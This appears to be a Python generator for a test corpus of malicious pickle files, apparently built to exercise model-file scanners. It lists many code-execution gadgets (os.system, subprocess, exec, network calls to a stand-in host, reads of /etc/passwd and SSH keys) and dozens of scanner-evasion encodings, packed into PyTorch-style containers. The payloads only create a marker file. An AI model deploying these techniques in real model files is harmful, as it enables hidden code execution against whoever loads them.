"""The Python-serialisation part of the corpus: pickles written opcode by opcode, the containers they come in, and harmless files that
look alike. Standard library only."""
import argparse
import base64
import bz2
import collections
import copyreg
import datetime
import decimal
import enum
import fractions
import functools
import gzip
import io
import lzma
import marshal
import operator
import pathlib
import pickle
import random
import re
import struct
import tarfile
import types
import uuid
import zipfile
import zlib

MARK = "touch aisp-ran"
PY = "open('aisp-ran','w').close()"
PYX = "__import__('os').system('touch aisp-ran')"


# ---- an assembler ----

def s(text, proto=2):
    b = text.encode()
    if proto == 0:
        return b"V" + text.encode("raw_unicode_escape") + b"\n"
    if proto >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def by(b):
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def i(n):
    return b"J" + struct.pack("<i", n)


def g(module, name):
    return f"c{module}\n{name}\n".encode()


def sg(module, name, proto=4):
    return s(module, proto) + s(name, proto) + b"\x93"


def tup(*items):
    if len(items) == 0:
        return b")"
    if len(items) <= 3:
        return b"".join(items) + bytes([0x84 + len(items)])
    return b"(" + b"".join(items) + b"t"


def lst(*items):
    return b"](" + b"".join(items) + b"e"


def dct(*pairs):
    return b"}(" + b"".join(pairs) + b"u"


def call(f, *args):
    return f + tup(*args) + b"R"


def pk(body, proto=4, frame=False):
    body += b"."
    if frame:
        body = b"\x95" + struct.pack("<Q", len(body)) + body
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + body


def system(text=MARK):
    return call(g("os", "system"), s(text))


EVIL = pk(system(), 2)


# ---- harmless surroundings, as PyTorch and scikit-learn write them ----

def tensor(key="0", numel=4, storage="FloatStorage", shape=(2, 2)):
    pid = tup(s("storage"), g("torch", storage), s(key), s("cpu"), b"K" + bytes([numel]))
    stride = tup(b"K" + bytes([shape[-1]]), b"K\x01") if len(shape) == 2 else tup(b"K\x01")
    sizes = tup(*[b"K" + bytes([n]) for n in shape])
    return call(g("torch._utils", "_rebuild_tensor_v2"), b"(" + pid[:-1].removeprefix(b"") + b"t" + b"Q" if False else pid + b"Q", b"K\x00", sizes, stride,
                b"\x89", call(g("collections", "OrderedDict")))


def state_dict(n=3, extra=b""):
    pairs = []
    for k in range(n):
        pairs += [s(f"layer{k}.weight"), tensor(str(k))]
    return call(g("collections", "OrderedDict")) + b"(" + b"".join(pairs) + b"u" + extra


def torch_zip(data_pkl, n=3, prefix="archive", compress=zipfile.ZIP_STORED, pkl="data.pkl", more=(), version=b"3\n"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as z:
        def put(name, data):
            info = zipfile.ZipInfo(f"{prefix}/{name}" if prefix else name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = compress
            z.writestr(info, data)
        put(pkl, data_pkl)
        put("byteorder", b"little")
        for k in range(n):
            put(f"data/{k}", struct.pack("<4f", 1.5, -2.5, k, 3.25))
        put("version", version)
        for name, data in more:
            put(name, data)
    return out.getvalue()


def a_zip(members, compress=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, compress)
    return out.getvalue()


def a_tar(members, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


LEGACY_MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."


def torch_legacy(model):
    head = LEGACY_MAGIC + pickle.dumps(1001, 2) + pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)
    return head + model + pickle.dumps(["0"], 2) + struct.pack("<q4f", 4, 1, 2, 3, 4)


def npy(objects, descr="|O"):
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + objects


# ---- malicious ----

def gadgets():
    """(module, name, args, runs with Python 3.11 alone). Each does something that loading data must not do."""
    yield from [
        ("os", "system", [s(MARK)], True),
        ("posix", "system", [s(MARK)], True),
        ("nt", "system", [s(MARK)], False),
        ("os", "popen", [s(MARK)], True),
        ("os", "execlp", [s("sh"), s("sh"), s("-c"), s(MARK)], True),
        ("os", "spawnlp", [b"K\x00", s("touch"), s("touch"), s("aisp-ran")], True),
        ("os", "mkdir", [s("aisp-ran")], True),
        ("os", "removedirs", [s("aisp-none")], False),
        ("os", "putenv", [s("LD_PRELOAD"), s("/tmp/x.so")], False),
        ("os", "kill", [b"K\x00", b"K\x00"], False),
        ("subprocess", "Popen", [lst(s("touch"), s("aisp-ran"))], True),
        ("subprocess", "check_output", [lst(s("touch"), s("aisp-ran"))], True),
        ("subprocess", "getoutput", [s(MARK)], True),
        ("subprocess", "call", [lst(s("sh"), s("-c"), s(MARK))], True),
        ("builtins", "exec", [s(PY)], True),
        ("builtins", "eval", [s(PY)], True),
        ("__builtin__", "eval", [s(PY)], True),
        ("__builtin__", "execfile", [s("/tmp/x.py")], False),
        ("builtins", "open", [s("aisp-ran"), s("w")], True),
        ("builtins", "__import__", [s("antigravity_local")], False),
        ("builtins", "breakpoint", [], False),
        ("commands", "getoutput", [s(MARK)], True),
        ("io", "open", [s("aisp-ran"), s("w")], True),
        ("_io", "FileIO", [s("aisp-ran"), s("w")], True),
        ("io", "FileIO", [s("aisp-ran"), s("w")], True),
        ("_pyio", "open", [s("aisp-ran"), s("w")], True),
        ("codecs", "open", [s("aisp-ran"), s("w")], True),
        ("pathlib", "Path.touch", [call(g("pathlib", "Path"), s("aisp-ran"))], True),
        ("tempfile", "NamedTemporaryFile", [], False),
        ("shutil", "rmtree", [s("/tmp/aisp-none")], False),
        ("shutil", "copyfile", [s("/etc/hostname"), s("aisp-ran")], True),
        ("shutil", "move", [s("/etc/x"), s("aisp-ran")], False),
        ("fileinput", "input", [s("/etc/hostname")], False),
        ("tarfile", "open", [s("aisp-ran"), s("w")], True),
        ("zipfile", "ZipFile", [s("aisp-ran"), s("w")], True),
        ("gzip", "open", [s("aisp-ran"), s("w")], True),
        ("bz2", "open", [s("aisp-ran"), s("w")], True),
        ("lzma", "open", [s("aisp-ran"), s("w")], True),
        ("shelve", "open", [s("aisp-ran")], False),
        ("dbm.dumb", "open", [s("aisp-ran"), s("n")], False),
        ("sqlite3", "connect", [s("aisp-ran")], True),
        ("logging", "FileHandler", [s("aisp-ran")], True),
        ("logging.config", "dictConfig", [dct(s("version"), b"K\x01")], False),
        ("linecache", "getline", [s("/etc/hostname"), b"K\x01"], False),
        ("ssl", "get_server_certificate", [tup(s("aisp.invalid"), b"M\xbb\x01")], False),
        ("socket", "create_connection", [tup(s("aisp.invalid"), b"K\x50")], False),
        ("socket", "getaddrinfo", [s("aisp.invalid"), b"K\x50"], False),
        ("urllib.request", "urlopen", [s("http://aisp.invalid/x")], False),
        ("urllib", "urlretrieve", [s("http://aisp.invalid/x"), s("x")], False),
        ("urllib2", "urlopen", [s("http://aisp.invalid/x")], False),
        ("http.client", "HTTPSConnection", [s("aisp.invalid")], False),
        ("ftplib", "FTP", [s("aisp.invalid")], False),
        ("smtplib", "SMTP", [s("aisp.invalid")], False),
        ("imaplib", "IMAP4_stream", [s(MARK)], True),
        ("xmlrpc.client", "ServerProxy", [s("http://aisp.invalid")], False),
        ("requests", "get", [s("http://aisp.invalid")], False),
        ("webbrowser", "open", [s("http://aisp.invalid")], False),
        ("importlib", "import_module", [s("this_is_local")], False),
        ("importlib", "reload", [g("os", "path")], False),
        ("imp", "load_source", [s("x"), s("/tmp/x.py")], False),
        ("runpy", "run_path", [s("/tmp/x.py")], False),
        ("runpy", "_run_code", [call(g("builtins", "compile"), s(PY), s("x"), s("exec")), dct(s("a"), b"K\x01")], True),
        ("pkgutil", "resolve_name", [s("os:system")], False),
        ("pydoc", "locate", [s("os.system")], False),
        ("pydoc", "pipepager", [s(""), s(MARK)], True),
        ("zipimport", "zipimporter", [s("/tmp/x.zip")], False),
        ("timeit", "timeit", [s(PY), s("pass"), g("time", "time"), b"K\x01"], True),
        ("timeit", "repeat", [s(PY), s("pass"), g("time", "time"), b"K\x01", b"K\x01"], True),
        ("cProfile", "run", [s(PY)], True),
        ("cProfile", "runctx", [s(PY), b"}", b"}"], True),
        ("profile", "run", [s(PY)], True),
        ("profile", "Profile.run", [call(g("profile", "Profile")), s(PY)], True),
        ("trace", "Trace.run", [call(g("trace", "Trace")), s(PY)], True),
        ("doctest", "debug_script", [s(PY), b"\x88"], False),
        ("bdb", "Bdb.run", [call(g("bdb", "Bdb")), s(PY)], True),
        ("pdb", "run", [s(PY)], False),
        ("code", "InteractiveInterpreter.runsource", [call(g("code", "InteractiveInterpreter")), s(PY)], True),
        ("code", "InteractiveInterpreter.runcode", [call(g("code", "InteractiveInterpreter")), call(g("builtins", "compile"), s(PY), s("x"), s("exec"))], True),
        ("codeop", "compile_command", [s(PY)], False),
        ("ensurepip", "_run_pip", [lst(s("--version"))], False),
        ("pip", "main", [lst(s("install"), s("evil-package"))], False),
        ("pip._internal", "main", [lst(s("install"), s("evil-package"))], False),
        ("pty", "spawn", [lst(s("touch"), s("aisp-ran"))], True),
        ("ctypes", "CDLL", [s("/tmp/x.so")], False),
        ("ctypes.util", "find_library", [s("c")], False),
        ("distutils.file_util", "write_file", [s("aisp-ran"), lst(s("x"))], True),
        ("distutils.spawn", "spawn", [lst(s("touch"), s("aisp-ran"))], True),
        ("asyncio.subprocess", "create_subprocess_shell", [s(MARK)], False),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", [b"}", s(MARK), b"\x88", b"N", b"N", b"N", b"K\x00"], False),
        ("uuid", "_get_command_stdout", [s("touch"), s("aisp-ran")], True),
        ("_osx_support", "_read_output", [s(MARK)], True),
        ("_aix_support", "_read_cmd_output", [s(MARK)], False),
        ("idlelib.run", "Executive.runcode", [b"}", s(PY)], False),
        ("idlelib.calltip", "get_entity", [s(PYX)], False),
        ("idlelib.autocomplete", "AutoComplete.get_entity", [b"}", s(PYX)], False),
        ("lib2to3.pgen2.grammar", "Grammar.loads", [call(g("lib2to3.pgen2.grammar", "Grammar")), by(EVIL)], False),
        ("test.support.script_helper", "assert_python_ok", [s("-c"), s(PY)], False),
        ("multiprocessing.util", "spawnv_passfds", [by(b"/bin/sh"), lst(s("sh"), s("-c"), s(MARK)), b"]"], False),
        ("concurrent.futures.process", "_process_worker", [], False),
        ("threading", "Timer", [b"K\x01", g("os", "getpid")], False),
        ("_thread", "start_new_thread", [g("os", "system"), tup(s(MARK))], False),
        ("signal", "raise_signal", [b"K\x12"], False),
        ("gc", "get_objects", [], False),
        ("sys", "settrace", [b"N"], False),
        ("sys", "_getframe", [], False),
        ("atexit", "register", [g("os", "system"), s(MARK)], True),
        ("marshal", "loads", [by(marshal.dumps(compile(PYX, "x", "exec")))], False),
        ("types", "FunctionType", [call(g("marshal", "loads"), by(marshal.dumps(compile(PYX, "x", "exec")))), b"}"], False),
        ("builtins", "setattr", [g("pickle", "Unpickler"), s("find_class"), g("os", "system")], False),
        ("builtins", "globals", [], False),
        ("rlcompleter", "Completer.attr_matches", [call(g("rlcompleter", "Completer")), s("os.system.")], False),
        ("typing", "get_type_hints", [b"}"], False),
        ("dataclasses", "make_dataclass", [s("C"), lst(s("a"))], False),
        ("inspect", "getsource", [g("os", "system")], False),
        ("site", "addsitedir", [s("/tmp/x")], False),
        ("sysconfig", "_init_posix", [b"}"], False),
        ("venv", "create", [s("aisp-ran")], False),
        ("compileall", "compile_file", [s("/tmp/x.py")], False),
        ("wsgiref.simple_server", "make_server", [s(""), b"K\x50", b"N"], False),
        ("turtledemo.__main__", "main", [], False),
        ("mailcap", "findmatch", [b"}", s("x/y")], False),
        ("pipes", "Template.open", [call(g("pipes", "Template")), s("aisp-ran"), s("w")], False),
        ("platform", "popen", [s(MARK)], False),
        ("plistlib", "load", [call(g("builtins", "open"), s("/etc/hostname"), s("rb"))], False),
        ("time", "sleep", [b"J\x00\x00\x00\x7f"], False),
        ("faulthandler", "_sigsegv", [], False),
        # libraries
        ("numpy.f2py.crackfortran", "getlincoef", [s(PYX), dct(s("a"), b"K\x01")], False),
        ("numpy.f2py.crackfortran", "param_eval", [s(PYX), b"}", b"}"], False),
        ("numpy.testing._private.utils", "runstring", [s(PY), b"}"], False),
        ("numpy.testing", "measure", [s(PY)], False),
        ("numpy", "load", [s("http://x/evil.npy"), b"N", b"\x88"], False),
        ("numpy", "memmap", [s("aisp-ran"), s("f8"), s("w+")], False),
        ("numpy.lib.npyio", "DataSource.open", [b"N", s("http://aisp.invalid")], False),
        ("torch.utils.collect_env", "run", [s(MARK)], False),
        ("torch.utils.collect_env", "run_and_read_all", [g("torch.utils.collect_env", "run"), s(MARK)], False),
        ("torch.utils.bottleneck.__main__", "run_cprofile", [s(PY), b"}"], False),
        ("torch._dynamo.guards", "GuardBuilder.get", [b"}", s(PYX)], False),
        ("torch._inductor.codecache", "compile_file", [s(""), s(""), lst(s("sh"), s("-c"), s(MARK))], False),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", [s(PYX), b"}", b"}"], False),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", [b"}", s(PYX), b"]"], False),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", [s("pickle"), by(EVIL)], False),
        ("torch.utils._config_module", "ConfigModule.load_config", [b"}", by(EVIL)], False),
        ("torch.hub", "load", [s("evil/repo"), s("model")], False),
        ("torch.hub", "_remove_if_exists", [s("/tmp/x")], False),
        ("torch", "load", [s("/tmp/evil.pt")], False),
        ("torch.serialization", "load", [s("/tmp/evil.pt")], False),
        ("torch.ops", "load_library", [s("/tmp/x.so")], False),
        ("torch.utils.cpp_extension", "load_inline", [s("x"), s("int main(){}")], False),
        ("torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler", [s("sh")], False),
        ("torch.package", "PackageImporter", [s("/tmp/x.pt")], False),
        ("torch._jit_internal", "os.system", [s(MARK)], False),
        ("torch.nn.modules.module", "functools.reduce", [g("os", "system"), lst(s(MARK))], False),
        ("torchvision.datasets.utils", "download_url", [s("http://aisp.invalid/x"), s("/tmp")], False),
        ("pandas", "read_pickle", [s("http://aisp.invalid/x.pkl")], False),
        ("pandas", "read_csv", [s("/etc/passwd")], False),
        ("pandas", "eval", [s("@pd.compat.os.system('touch aisp-ran')")], False),
        ("pandas.io.pickle", "read_pickle", [s("/tmp/x.pkl")], False),
        ("pandas.core.frame", "DataFrame.query", [b"N", s("@os.system('id')")], False),
        ("joblib", "load", [s("/tmp/x.joblib")], False),
        ("joblib.numpy_pickle", "load", [s("/tmp/x.joblib")], False),
        ("sklearn.externals.joblib", "load", [s("/tmp/x.joblib")], False),
        ("sklearn.utils._testing", "assert_run_python_script", [s(PY)], False),
        ("sklearn.datasets", "fetch_openml", [s("x")], False),
        ("scipy.io", "savemat", [s("aisp-ran"), b"}"], False),
        ("tensorflow.keras.utils", "get_file", [s("x"), s("http://aisp.invalid/x")], False),
        ("tensorflow.python.lib.io.file_io", "write_string_to_file", [s("aisp-ran"), s("x")], False),
        ("keras.models", "load_model", [s("/tmp/x.keras")], False),
        ("keras.utils.generic_utils", "func_load", [s("4wAA"), b"N", b"N"], False),
        ("transformers", "AutoModel.from_pretrained", [s("evil/model")], False),
        ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", [s("m.C"), s("evil/model")], False),
        ("datasets", "load_dataset", [s("evil/data")], False),
        ("huggingface_hub", "hf_hub_download", [s("evil/model"), s("x")], False),
        ("nltk", "download", [s("x")], False),
        ("spacy.cli", "download", [s("x")], False),
        ("gensim.utils", "unpickle", [s("/tmp/x")], False),
        ("sympy", "lambdify", [lst(s("x")), s(PYX)], False),
        ("sympy.core.sympify", "sympify", [s(PYX)], False),
        ("numexpr", "evaluate", [s(PYX)], False),
        ("yaml", "unsafe_load", [s("!!python/object/apply:os.system ['id']")], False),
        ("jinja2", "Template", [s("{{ x }}")], False),
        ("dill", "load", [call(g("builtins", "open"), s("/tmp/x"), s("rb"))], False),
        ("dill._dill", "_eval_repr", [s(PYX)], False),
        ("cloudpickle", "load", [call(g("builtins", "open"), s("/tmp/x"), s("rb"))], False),
        ("fsspec", "open", [s("http://aisp.invalid")], False),
        ("IPython", "start_ipython", [], False),
        ("setuptools", "setup", [], False),
        ("mlflow.pyfunc", "load_model", [s("http://aisp.invalid")], False),
        ("lightning.pytorch.core.saving", "load_from_checkpoint", [s("/tmp/x")], False),
        ("ultralytics.utils.downloads", "safe_download", [s("http://aisp.invalid")], False),
        ("statsmodels.iolib.smpickle", "load_pickle", [s("/tmp/x")], False),
        ("skimage.io", "imread", [s("http://aisp.invalid")], False),
        ("flair.file_utils", "cached_path", [s("http://aisp.invalid")], False),
        ("monai.bundle", "run", [], False),
        ("monai.utils.module", "optional_import", [s("os")], False),
        ("detectron2.utils.file_io", "PathManager.open", [s("/etc/passwd")], False),
        ("mmengine.config", "Config.fromfile", [s("/tmp/x.py")], False),
        ("paddle.utils.cpp_extension.extension_utils", "run_cmd", [s(MARK)], False),
        ("xgboost.testing", "download", [s("x")], False),
    ]


def styles(module, name, args):
    """Ways to write the same call."""
    plain = b"".join(args)
    yield "reduce0", b"c%s\n%s\n(%stR." % (module.encode(), name.encode(), plain)
    yield "reduce2", pk(call(g(module, name), *args), 2)
    yield "stack4", pk(call(sg(module, name), *args), 4, True)
    if "." not in name:
        yield "inst", b"(" + plain + f"i{module}\n{name}\n".encode() + b"."
        yield "obj", pk(b"(" + g(module, name) + plain + b"o", 2)


def evasions():
    """(name, bytes, how it is loaded, runs)"""
    e = system()
    yield "popped", pk(e + b"0N", 2), "pickle", True
    yield "popped-by-mark", pk(b"(" + e + b"1N", 2), "pickle", True
    yield "memo-overwritten", pk(s("math") + b"\x940" + s("os") + b"q\x000" + b"h\x00" + s("system") + b"\x93" + tup(s(MARK)) + b"R", 4), "pickle", True
    yield "memo-decoy", pk(s("system") + b"q\x05" + s("os") + b"q\x06" + b"00" + s("collections") + b"0" + s("OrderedDict") + b"0" + b"h\x06h\x05\x93" + tup(s(MARK)) + b"R", 4), "pickle", True
    yield "dup-names", pk(s("os") + s("system") + b"20" + b"\x93" + tup(s(MARK)) + b"R", 4), "pickle", True
    yield "swapped-by-put", pk(s("os") + b"r\x00\x01\x00\x000" + s("system") + b"r\x01\x01\x00\x000" + b"j\x00\x01\x00\x00j\x01\x01\x00\x00\x93" + tup(s(MARK)) + b"R", 4), "pickle", True
    yield "decoys", pk(b"".join(s(w) + b"0" for w in ("numpy", "ndarray", "torch", "_utils")) + s("os") + b"q\x01" + s("system") + s("x") + b"0\x93" + tup(s(MARK)) + b"R", 4), "pickle", True
    yield "escaped-text", b"Vos\nVsyst\\u0065m\n\x93(V" + MARK.encode() + b"\ntR.", "pickle", True
    yield "escaped-quotes", b"(S'tou\\x63h aisp-r\\141n'\nios\nsystem\n.", "pickle", True
    yield "truncated-behind", pk(e, 2)[:-1], "pickle", True
    yield "broken-behind", pk(e, 2)[:-1] + b"\xff\xff", "pickle", True
    yield "bad-opcode-behind", pk(e, 2)[:-1] + b"\x07junk.", "pickle", True
    yield "second-of-two", pickle.dumps({"a": 1}) + EVIL, "pickles", True
    yield "third-of-three", pickle.dumps([1]) * 2 + EVIL, "pickles", True
    yield "behind-junk", pickle.dumps([1]) + b"\n" * 100 + EVIL, "", False
    yield "proto-inside", pk(b"\x80\x02" + e + b"\x80\x04", 4), "pickle", True
    yield "frame-lies", b"\x80\x04" + call(g("os", "system"), s(MARK)) + b"\x95" + struct.pack("<Q", 10**9) + b".", "pickle", True
    yield "frame-in-frame", b"\x80\x04\x95" + struct.pack("<Q", 200) + b"N0\x95" + struct.pack("<Q", len(e) + 1) + e + b".", "", False
    yield "build-setstate", pk(call(g("argparse", "Namespace")) + dct(s("__setstate__"), g("os", "system")) + b"b" + s(MARK) + b"b", 2), "pickle", True
    yield "build-class", pk(g("argparse", "Namespace") + b"N" + dct(s("__setstate__"), g("os", "system")) + b"\x86b0" + g("argparse", "Namespace") + b")\x81" + s(MARK) + b"b", 2), "pickle", False
    yield "setitems-sys-modules", pk(g("sys", "modules") + s("math") + g("os", "path") + b"s", 2), "pickle", False
    yield "getattr", pk(call(call(g("builtins", "getattr"), call(g("builtins", "__import__"), s("os")), s("system")), s(MARK)), 2), "pickle", True
    yield "getattr-harmless-module", pk(call(call(g("builtins", "getattr"), g("logging", "os"), s("system")), s(MARK)), 2), "pickle", True
    yield "attrgetter", pk(call(call(call(g("operator", "attrgetter"), s("system")), call(g("builtins", "__import__"), s("os"))), s(MARK)), 2), "pickle", True
    yield "methodcaller", pk(call(call(g("operator", "methodcaller"), s("system"), s(MARK)), call(g("importlib", "import_module"), s("os"))), 2), "pickle", True
    yield "partial-called", pk(call(call(g("functools", "partial"), g("os", "system"), s(MARK))), 2), "pickle", True
    yield "map-list", pk(call(g("builtins", "list"), call(g("builtins", "map"), g("os", "system"), lst(s(MARK)))), 2), "pickle", True
    yield "map-set", pk(call(g("builtins", "set"), call(g("builtins", "map"), g("builtins", "eval"), lst(s(PY)))), 2), "pickle", True
    yield "filter", pk(call(g("builtins", "list"), call(g("builtins", "filter"), g("os", "system"), lst(s(MARK)))), 2), "pickle", True
    yield "reduce-function", pk(call(g("functools", "reduce"), g("os", "spawnlp") if False else g("operator", "add"), lst(s("a"), s("b"))) + b"0" + e, 2), "pickle", True
    yield "defaultdict-factory", pk(call(call(g("builtins", "getattr"), call(g("collections", "defaultdict"), call(g("functools", "partial"), g("os", "system"), s(MARK))), s("__missing__")), b"K\x01"), 2), "pickle", True
    yield "sorted-key", pk(call(call(g("functools", "partial"), g("builtins", "map"), g("os", "system")), lst(s(MARK))) + b"0N", 2), "", False
    yield "dotted", pk(call(sg("logging", "os.system"), s(MARK)), 4), "pickle", True
    yield "dotted-deep", pk(call(sg("unittest.mock", "asyncio.subprocess.subprocess.getoutput") if False else sg("shutil", "os.system"), s(MARK)), 4), "pickle", True
    yield "dotted-random", pk(call(sg("random", "_os.system"), s(MARK)), 4), "pickle", True
    yield "dotted-collections", pk(call(sg("collections", "_sys.modules.__class__")), 4), "pickle", False
    yield "dotted-dunder", pk(call(sg("collections", "OrderedDict.__init__.__class__")), 4), "", False
    yield "dotted-globals", pk(call(call(g("builtins", "getattr"), sg("re", "compile.__globals__"), s("get")), s("enum")), 4), "pickle", False
    yield "str-format", pk(call(sg("builtins", "str.format"), s("{0.__globals__}"), g("re", "compile")), 4) [:-1] + b"0" + e + b".", "pickle", True
    yield "unbound-method", pk(call(sg("pathlib", "Path.write_text"), call(g("pathlib", "Path"), s("aisp-ran")), s("x")), 4), "pickle", True
    yield "bound-later", pk(call(call(g("builtins", "getattr"), call(g("pathlib", "Path"), s("aisp-ran")), s("touch"))), 4), "pickle", True
    yield "joined-name", pk(call(call(sg("builtins", "str.join"), s(""), lst(s("o"), s("s"))) + s("system") + b"\x93", s(MARK)), 4), "pickle", True
    yield "concat-name", pk(call(s("os") + call(g("operator", "concat"), s("sys"), s("tem")) + b"\x93", s(MARK)), 4), "pickle", True
    yield "decoded-name", pk(call(call(g("_codecs", "decode"), by(b"bf"), s("rot13")) + b"0" + call(g("_codecs", "decode"), s("bf"), s("rot13")) + s("system") + b"\x93", s(MARK)), 4), "", False
    yield "rot13-name", pk(call(call(g("codecs", "decode"), s("bf"), s("rot13")) + s("system") + b"\x93", s(MARK)), 4), "pickle", True
    yield "ext-registered", pk(call(g("copyreg", "add_extension"), s("os"), s("system"), b"K\x7f") + b"0\x82\x7f" + tup(s(MARK)) + b"R", 2), "pickle", True
    yield "nested-loads", pk(call(g("pickle", "loads"), by(EVIL)), 4), "pickle", True
    yield "nested-loads-c", pk(call(g("_pickle", "loads"), by(EVIL)), 4), "pickle", True
    yield "nested-twice", pk(call(g("pickle", "loads"), by(pk(call(g("pickle", "loads"), by(EVIL)), 4))), 4), "pickle", True
    yield "nested-base64", pk(call(g("pickle", "loads"), call(g("base64", "b64decode"), s(base64.b64encode(EVIL).decode()))), 4), "pickle", True
    yield "nested-zlib", pk(call(g("pickle", "loads"), call(g("zlib", "decompress"), by(zlib.compress(EVIL)))), 4), "pickle", True
    yield "nested-latin1", pk(call(g("pickle", "loads"), call(g("_codecs", "encode"), s(EVIL.decode("latin1")), s("latin1"))), 2), "pickle", True
    yield "nested-hex", pk(call(g("pickle", "loads"), call(sg("builtins", "bytes.fromhex"), s(EVIL.hex()))), 4), "pickle", True
    yield "nested-storage", pk(call(g("torch.storage", "_load_from_bytes"), by(torch_legacy(EVIL))), 2), "", False
    yield "nested-unpickler", pk(call(call(g("builtins", "getattr"), call(g("pickle", "Unpickler"), call(g("io", "BytesIO"), by(EVIL))), s("load"))), 4), "pickle", True
    yield "exec-zlib", pk(call(g("builtins", "exec"), call(g("zlib", "decompress"), by(zlib.compress(PY.encode())))), 4), "pickle", True
    yield "exec-base64", pk(call(g("builtins", "exec"), call(g("base64", "b64decode"), by(base64.b64encode(PY.encode())))), 4), "pickle", True
    yield "marshal-function", pk(call(call(g("types", "FunctionType"), call(g("marshal", "loads"), by(marshal.dumps(compile(PYX, "x", "exec")))), dct(s("__builtins__"), g("builtins", "__dict__")))), 4), "pickle", True
    yield "newobj-popen", pk(g("subprocess", "Popen") + tup(lst(s("touch"), s("aisp-ran"))) + b"R", 4), "pickle", True
    yield "reconstructor", pk(call(g("copyreg", "_reconstructor"), g("subprocess", "Popen"), g("builtins", "object"), b"N"), 2), "", False
    yield "reconstructor-base", pk(call(g("copyreg", "_reconstructor"), g("argparse", "Namespace"), g("builtins", "object"), b"N") + b"0" + e, 2), "pickle", True
    yield "import-only-walk", pk(call(g("builtins", "getattr"), call(g("builtins", "getattr"), g("logging", "sys"), s("modules")), s("get")) + tup(s("os")) + b"R" + b"q\x010" + call(call(g("builtins", "getattr"), b"h\x01", s("system")), s(MARK)), 4), "pickle", True
    yield "in-state-dict", pk(state_dict(3)[:-1] + s("x") + e + b"u", 2), "", False
    yield "many-first", pk(b"](" + b"".join(i(k) for k in range(20000)) + b"e0" + e, 2), "pickle", True
    yield "deep-lists", pk(b"]" * 3000 + b"a" * 2999 + b"0" + e, 2), "pickle", True
    yield "big-bytes-first", pk(b"B" + struct.pack("<I", 1 << 20) + bytes(1 << 20) + b"0" + e, 4), "pickle", True
    yield "long-stack", pk(b"(" + b"N" * 50000 + e + b"l", 2), "pickle", True
    yield "os-as-arg-in-stack", pk(b"(" + g("os", "system") + b"N" * 20000 + b"l0" + e, 2), "pickle", True
    yield "put-text-index", b"cos\nsystem\np12\n0g12\n(V" + MARK.encode() + b"\ntR.", "pickle", True
    yield "memoize-after-put", pk(s("math") + b"q\x070" + s("os") + b"\x940h\x01" + s("system") + b"\x93" + tup(s(MARK)) + b"R", 4), "pickle", True
    yield "types-code", pk(call(call(g("types", "FunctionType"), call(g("builtins", "compile"), s(PY), s("x"), s("exec")), b"}")), 4), "pickle", True
    yield "local-then-os", pk(g("collections", "OrderedDict") + b")R" + s("a") + e + b"s", 2), "pickle", True


def containers():
    e2, e4 = EVIL, pk(call(sg("os", "system"), s(MARK)), 4, True)
    bad_sd = pk(state_dict(3)[:-1] + s("x") + system() + b"u", 2)
    yield "torch-zip.pt", torch_zip(bad_sd), "", None
    yield "torch-zip-deflated.pt", torch_zip(bad_sd, compress=zipfile.ZIP_DEFLATED), "", None
    yield "torch-zip-other-name.bin", torch_zip(bad_sd, pkl="weights.dat", more=[("data.pkl", pk(state_dict(3), 2))]), "", None
    yield "torch-zip-no-prefix.ckpt", torch_zip(bad_sd, prefix=""), "", None
    yield "torch-zip-hidden-entry.pt", torch_zip(pk(state_dict(3), 2), more=[("data/.hidden", e4)]), "", None
    yield "torch-zip-tensor-is-pickle.pt", torch_zip(pk(state_dict(3), 2), more=[("data/7", e2)]), "", None
    yield "torch-zip-constants.pt", torch_zip(pk(state_dict(1), 2), more=[("constants.pkl", e2), ("code/__torch__.py", b"class M(Module):\n  pass\n")]), "", None
    yield "torch-legacy.pt", torch_legacy(pk(call(g("collections", "OrderedDict")) + s("a") + system() + b"s", 2)), "", None
    yield "torch-legacy-first.pth", e2 + torch_legacy(pk(b"}", 2)), "pickle", True
    yield "torch-legacy-keys.pt", LEGACY_MAGIC + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pk(b"}", 2) + e2, "", None
    yield "torch-tar.pt", a_tar([("sys_info", pickle.dumps({}, 2)), ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", e2)]), "", None
    yield "torch-tar-storages.pt", a_tar([("sys_info", pickle.dumps({}, 2)), ("storages", pickle.dumps(1, 2) + e2), ("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps({}, 2))]), "", None
    script = b"class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    "
    for k, line in enumerate([b"_0 = ops.aten.save(x, \"/tmp/aisp-ran\")", b"_0 = torch.from_file(\"/etc/passwd\", False, 10)",
                              b"y = ops.aten.from_file(\"/root/.ssh/authorized_keys\", True, 100)"]):
        yield f"torchscript-file-{k}.pt", torch_zip(pk(state_dict(1), 2), more=[("code/__torch__/m.py", script + line + b"\n    return x\n"), ("constants.pkl", pickle.dumps((), 2))]), "", None
    yield "gz.pkl", gzip.compress(e2, mtime=0), "gzip", True
    yield "bz2.joblib", bz2.compress(e2), "bz2", True
    yield "xz.joblib", lzma.compress(e2), "xz", True
